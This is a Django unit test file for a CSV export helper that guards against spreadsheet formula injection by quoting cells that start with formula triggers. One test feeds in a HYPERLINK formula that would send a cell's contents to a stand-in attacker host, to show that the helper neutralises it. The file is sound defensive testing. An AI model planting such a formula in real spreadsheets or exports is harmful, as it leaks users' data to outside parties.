"""CSV cells that a spreadsheet would run as formulas are written as text (OWASP CSV Injection,
CWE-1236)."""

import csv
import io

from django.test import SimpleTestCase

from anxin.core.exports import csv_writer, safe_cell


class SafeCellTest(SimpleTestCase):
    def test_it_quotes_every_formula_trigger(self):
        for value in ("=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1"):
            with self.subTest(value=value):
                self.assertEqual(safe_cell(value), "'" + value)

    def test_it_quotes_a_phone_number_with_a_plus_too(self):
        # Deliberate: "+86…" stays readable as text; a rule sparing "numbers" can be tricked.
        self.assertEqual(safe_cell("+8613800000000"), "'+8613800000000")

    def test_it_leaves_ordinary_text_and_non_text_alone(self):
        for value in ("王芳", "A-1", "", None, -5, 3.5):
            with self.subTest(value=value):
                self.assertEqual(safe_cell(value), value)

    def test_the_writer_quotes_each_cell(self):
        out = io.StringIO()
        writer = csv_writer(out)
        writer.writerow(['=HYPERLINK("http://evil.example/?"&A1,"看")', "王芳"])
        writer.writerows([["@x", "y"]])
        rows = list(csv.reader(io.StringIO(out.getvalue())))
        self.assertEqual(rows, [['\'=HYPERLINK("http://evil.example/?"&A1,"看")', "王芳"],
                                ["'@x", "y"]])
